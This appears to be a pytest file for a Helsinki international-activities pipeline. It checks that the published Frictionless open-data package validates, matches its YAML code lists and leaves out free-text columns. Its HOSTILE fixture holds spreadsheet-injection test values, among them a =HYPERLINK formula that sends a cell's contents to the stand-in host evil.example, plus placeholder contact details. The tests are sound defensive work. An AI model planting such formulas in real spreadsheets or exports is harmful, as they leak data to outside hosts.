"""The open data: ``OUT/data/`` is a Frictionless data package that the ``frictionless`` library
validates, whose code columns list exactly the codes of params/strategy.yaml, and that holds no
column of what people typed freely (the columns the report masks), whatever was typed there.

The expected codes, labels and headers are read here straight from the params' YAML files, not
through the pipeline's own loading."""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import json
import re
from pathlib import Path

import frictionless
import pytest
import yaml

from hki_intl import PARAMS_DIR
from hki_intl.intake import load_submissions
from hki_intl.intake.open_data import DESCRIPTOR, Source, write_open_data
from hki_intl.intake.tables import TABLES, consolidate, free_text_columns, read_tables
from hki_intl.workbook.excel import set_text
from tests.conftest import activity, run_cli

YEAR = 2025
# The columns the report masks (hki_intl/report/chapters.py: mask_tables), by name: none of them
# may be published. A new free-text column fails test_the_masked_columns_are_named_here until
# it is named here too.
MASKED = {
    "activities": {"title", "partner_cities", "partner_organisations", "outcome"},
    "networks": {"owner_unit", "justification"},
    "visits": {"city", "purpose"},
    "media": {"outlet", "headline"},
    "partnerships": {"partner_city", "joint_activity"},
    "indicators": {"source", "note"},
    "highlights": {"title", "text", "link", "photo", "photo_alt", "photo_credit", "title_sv", "text_sv", "title_en", "text_en"},
    "submissions": {"contact_role"},
    "problems": {"message", "message_fi", "message_sv", "message_en"},
}
# Where the highlights' photos are, and the problems' table (messages quote cells, files are
# the analyst's paths): not published either.
UNPUBLISHED_COLUMNS = {"highlights": {"photo_image", "photo_width", "photo_height"}}
PUBLISHED = ["activities", "networks", "visits", "media", "partnerships", "indicators", "highlights", "submissions"]
# Each code column and the list of params/strategy.yaml it takes its codes from.
CODE_LISTS = {
    "organisation": "organisations",
    "activity_type": "activity_types",
    "goal": "goals",
    "focus_area": "focus_areas",
    "network": "networks",
    "funding_source": "funding_sources",
    "status": "activity_statuses",
    "role": "network_roles",
    "direction": "visit_directions",
    "country": "countries",
    "level": "visit_levels",
    "tone": "media_tones",
    "agreement_type": "agreement_types",
    "strategic_goal": "goals",
    "indicator": "indicators",
}
HOSTILE = {
    "A2": '=HYPERLINK("http://evil.example/?"&A1,"klikkaa")',
    "E2": "Tartto\nPärnu",  # a newline in a cell
    "G2": "+358 40 123 4567",
    "O2": "Yhteyshenkilö matti.meikalainen@hel.fi\n=1+1",
}
HOSTILE_KEYS = {"A": "title", "E": "partner_cities", "G": "partner_organisations", "O": "outcome"}


def yaml_file(name: str) -> dict:
    return yaml.safe_load((PARAMS_DIR / name).read_text(encoding="utf-8"))


def descriptor(folder: Path) -> dict:
    return json.loads((folder / DESCRIPTOR).read_text(encoding="utf-8"))


def csv_rows(path: Path) -> list[dict[str, str]]:
    with open(path, encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def assert_valid(folder: Path) -> frictionless.Report:
    """The package validates with frictionless, as a whole and every resource in it."""
    report = frictionless.validate(folder / DESCRIPTOR)
    errors = [e.message for e in report.errors] + [f"{t.name}: {e.message}" for t in report.tasks for e in t.errors]
    assert report.valid, errors[:5]
    assert sorted(t.name for t in report.tasks) == sorted(PUBLISHED)
    assert all(t.valid for t in report.tasks)
    return report


def test_the_masked_columns_are_named_here():
    """The report masks exactly the columns named in MASKED (its one list of free-text columns)."""
    assert {table: set(columns) for table, columns in free_text_columns().items()} == MASKED


@pytest.fixture
def hostile_package(write_workbook, strategy, settings, tmp_path):
    """One workbook with formula-looking text, newlines and contact data in its free-text cells,
    read by the intake and written as the complete tables and the open data."""

    def edit(wb):
        for ref, value in HOSTILE.items():
            set_text(wb["Toiminnot"][ref], value)
        role = next(row for row in wb["Perustiedot"].iter_rows() if str(row[0].value).startswith("Yhteyshenkilön rooli"))
        role[1].value = "Erityisasiantuntija, puh. 09 310 1234"

    path = write_workbook({"Toiminnot": [activity(), activity(title="toinen")]}, edit=edit)
    result = load_submissions(tmp_path / "inputs", [YEAR], strategy, settings)
    assert result.problems == []
    tables = consolidate(result)
    sha256 = hashlib.sha256(path.read_bytes()).hexdigest()
    out = tmp_path / "data"
    write_open_data(tables, out, YEAR, [Source("education", YEAR, path.name, sha256)], strategy, PARAMS_DIR)
    return out, tables, sha256


def test_a_hostile_value_stays_data_and_out_of_the_open_data(hostile_package):
    out, tables, sha256 = hostile_package
    assert_valid(out)
    # the intake read every hostile value as typed (they are in the complete tables)...
    for ref, value in HOSTILE.items():
        assert tables["activities"][HOSTILE_KEYS[ref[0]]].iloc[int(ref[1:]) - 2] == value
    assert tables["submissions"]["contact_role"].tolist() == ["Erityisasiantuntija, puh. 09 310 1234"]
    # ...and none of them, nor any part of them, is in the open data
    published = "".join(p.read_text(encoding="utf-8") for p in sorted(out.iterdir()))
    for fragment in ("HYPERLINK", "Pärnu", "358 40", "matti", "=1+1", "09 310", "Erityisasiantuntija", "toinen"):
        assert fragment not in published, fragment
    rows = csv_rows(out / "activities.csv")
    assert len(rows) == 2 and [r["source_row"] for r in rows] == ["2", "3"]  # no cell spilled onto a row of its own
    assert rows[0]["partner_countries"] == "NL" and rows[0]["start"] == "2025-03-04"
    assert descriptor(out)["sources"] == [
        {
            "path": f"{YEAR}/education.xlsx",
            "hash": f"sha256:{sha256}",
            "title": "Kasvatuksen ja koulutuksen toimiala: työkirja 2025",
            "titles": {
                "fi": "Kasvatuksen ja koulutuksen toimiala: työkirja 2025",
                "sv": "Fostran och utbildning: arbetsbok 2025",
                "en": "Education Division: workbook 2025",
            },
        }
    ]


def test_the_package_is_the_same_bytes_for_the_same_tables(hostile_package, strategy, tmp_path):
    out, tables, sha256 = hostile_package
    again = tmp_path / "again"
    write_open_data(tables, again, YEAR, [Source("education", YEAR, "education.xlsx", sha256)], strategy, PARAMS_DIR)
    assert sorted(p.name for p in again.iterdir()) == sorted(p.name for p in out.iterdir())
    for path in sorted(out.iterdir()):
        assert (again / path.name).read_bytes() == path.read_bytes(), path.name
    text = (out / DESCRIPTOR).read_text(encoding="utf-8")
    today = dt.date.today()
    assert today.isoformat() not in text and str(today.year + 1) not in text  # no time of writing in it


def test_frictionless_finds_a_code_that_is_not_in_the_list(hostile_package):
    """The schema is a real check: a code outside its list, a country outside the pattern and a
    record of a workbook that was not sent each fail validation."""
    out = hostile_package[0]
    text = (out / "activities.csv").read_text(encoding="utf-8")
    broken = text.replace(",benchmarking,", ",seminaari,", 1).replace(",NL,", ",NL;XX,", 1).replace(",2025,", ",2019,", 1)
    (out / "activities.csv").write_text(broken, encoding="utf-8")
    report = frictionless.validate(out / DESCRIPTOR)
    found = sorted({e.type for t in report.tasks for e in t.errors})
    assert not report.valid and found == ["constraint-error", "foreign-key"]
    cells = sorted(e.cell for t in report.tasks for e in t.errors if e.type == "constraint-error")
    assert cells == ["NL;XX", "seminaari"]


@pytest.mark.slow
def test_the_example_runs_open_data_validates_without_a_masked_column(example):
    """Through the real command line: the example's ``run`` writes a package that validates, whose
    tables hold every record of the complete tables and no column the report masks."""
    root, _ = example
    out = root / "report"
    data = out / "data"
    assert sorted(p.name for p in data.iterdir()) == sorted([DESCRIPTOR, *(f"{t}.csv" for t in PUBLISHED)])
    report = assert_valid(data)
    complete = read_tables(out / TABLES)
    assert {t.name: t.stats["rows"] for t in report.tasks} == {t: len(complete[t]) for t in PUBLISHED}
    package = descriptor(data)
    for resource in package["resources"]:
        table = resource["name"]
        header = next(csv.reader(open(data / resource["path"], encoding="utf-8", newline="")))
        fields = [f["name"] for f in resource["schema"]["fields"]]
        assert header == fields
        hidden = MASKED[table] | UNPUBLISHED_COLUMNS.get(table, set())
        assert hidden <= set(complete[table].columns) and not hidden & set(fields), table
        assert set(fields) == set(complete[table].columns) - hidden, table
    # No value typed into a masked column is a cell of the open data.
    typed = {str(v) for t in PUBLISHED for c in MASKED[t] for v in complete[t][c].dropna()}
    cells = {v for t in PUBLISHED for row in csv_rows(data / f"{t}.csv") for v in row.values()}
    assert typed and not typed & cells


@pytest.mark.slow
def test_the_example_packages_enums_are_the_code_lists_with_their_labels(example):
    root, _ = example
    package = descriptor(root / "report" / "data")
    strategy, workbook, texts = yaml_file("strategy.yaml"), yaml_file("workbook.yaml"), yaml_file("texts.yaml")
    checked = set()
    for resource in package["resources"]:
        for field in resource["schema"]["fields"]:
            name = field["name"]
            if resource["name"] == "submissions" and name == "status":
                assert field["constraints"]["enum"] == ["data", "nil_return", "empty"]
                assert field["enumTitles"]["nil_return"] == texts["open_data.status.nil_return"]
                continue
            if name not in CODE_LISTS:
                assert "enum" not in field.get("constraints", {}), name
                continue
            entries = strategy[CODE_LISTS[name]]
            labels = {str(e["id"]): {lang: str(e[lang]) for lang in ("fi", "sv", "en")} for e in entries}
            assert field["constraints"]["enum"] == [str(e["id"]) for e in entries], name
            assert field["enumTitles"] == labels, name
            checked.add(name)
        sheet = next(
            (s for s, words in workbook["sheets"].items() if words.get("label", {}).get("en") == resource["titles"]["en"]), None
        )
        if sheet:  # a sheet's table: its columns are titled by the workbook's headers, in fi, sv and en
            columns = workbook["sheets"][sheet]["columns"]
            for field in resource["schema"]["fields"][4:]:
                assert (
                    field["titles"] == columns[field["name"]]["label"] and field["title"] == columns[field["name"]]["label"]["fi"]
                )
    assert checked == set(CODE_LISTS)
    countries = next(f for f in package["resources"][0]["schema"]["fields"] if f["name"] == "partner_countries")
    codes = [str(e["id"]) for e in strategy["countries"]]
    pattern = re.compile(countries["constraints"]["pattern"])
    assert all(pattern.fullmatch(c) for c in codes) and pattern.fullmatch(";".join(codes[:3]))
    assert not any(pattern.fullmatch(v) for v in ("XX", "FI;", "FI,SE", "fi", ""))


@pytest.mark.slow
def test_the_example_package_names_its_licence_and_its_workbooks(example):
    root, _ = example
    package = descriptor(root / "report" / "data")
    assert package["licenses"] == [
        {
            "name": "CC-BY-4.0",
            "path": "https://creativecommons.org/licenses/by/4.0/",
            "title": "Creative Commons Nimeä 4.0 Kansainvälinen",
            "titles": {
                "fi": "Creative Commons Nimeä 4.0 Kansainvälinen",
                "sv": "Creative Commons Erkännande 4.0 Internationell",
                "en": "Creative Commons Attribution 4.0 International",
            },
        }
    ]
    assert package["name"] == f"helsinki-international-activities-{YEAR}"
    assert package["title"] == f"Helsingin kansainvälinen toiminta {YEAR}, avoin data"
    inputs = root / "inputs"
    workbooks = sorted(inputs.glob("*/*.xlsx"), key=lambda p: (p.parent.name, p.name))
    expected = [(f"{p.parent.name}/{p.name}", "sha256:" + hashlib.sha256(p.read_bytes()).hexdigest()) for p in workbooks]
    assert [(s["path"], s["hash"]) for s in package["sources"]] == expected
    complete = read_tables(root / "report" / TABLES)
    text = (root / "report" / "data" / DESCRIPTOR).read_text(encoding="utf-8")
    assert not [role for role in complete["submissions"]["contact_role"].dropna() if role in text]
    assert str(inputs) not in text  # workbooks by their place in the inputs folder, not the analyst's paths


@pytest.mark.slow
def test_a_run_with_hostile_cells_publishes_a_valid_package_without_them(write_workbook, tmp_path):
    """The same through the real command line: ``run`` on a workbook with hostile free text."""

    def edit(wb):
        for ref, value in HOSTILE.items():
            set_text(wb["Toiminnot"][ref], value)

    write_workbook({"Toiminnot": [activity(), activity(title="toinen")]}, edit=edit)
    out = tmp_path / "report"
    done = run_cli(
        "run", "--year", str(YEAR), "--inputs", str(tmp_path / "inputs"), "--out", str(out), "--format", "html", "--quiet"
    )
    assert done.returncode == 0, done.stderr
    assert_valid(out / "data")
    published = "".join(p.read_text(encoding="utf-8") for p in sorted((out / "data").iterdir()))
    assert not [value for value in HOSTILE.values() for part in value.split() if len(part) > 4 and part in published]
    back = read_tables(out / TABLES)["activities"]  # the report's tables keep what was typed, exactly
    assert [back[HOSTILE_KEYS[ref[0]]].iloc[0] for ref in HOSTILE] == list(HOSTILE.values())
